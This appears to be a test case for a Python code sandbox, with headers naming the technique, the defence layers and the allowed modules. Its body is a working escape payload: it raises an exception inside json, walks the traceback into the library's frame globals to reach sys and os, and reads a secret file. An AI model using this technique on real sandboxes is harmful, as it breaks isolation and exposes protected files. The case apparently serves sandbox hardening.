# class: exceptions and frames
# technique: an exception raised in a library's Python code, whose frame has that module's globals
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import json
try:
    json.loads("x")
except ValueError as error:
    g = error.__traceback__.tb_next.tb_frame.f_globals
    g = {"sys": g["codecs"].sys}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
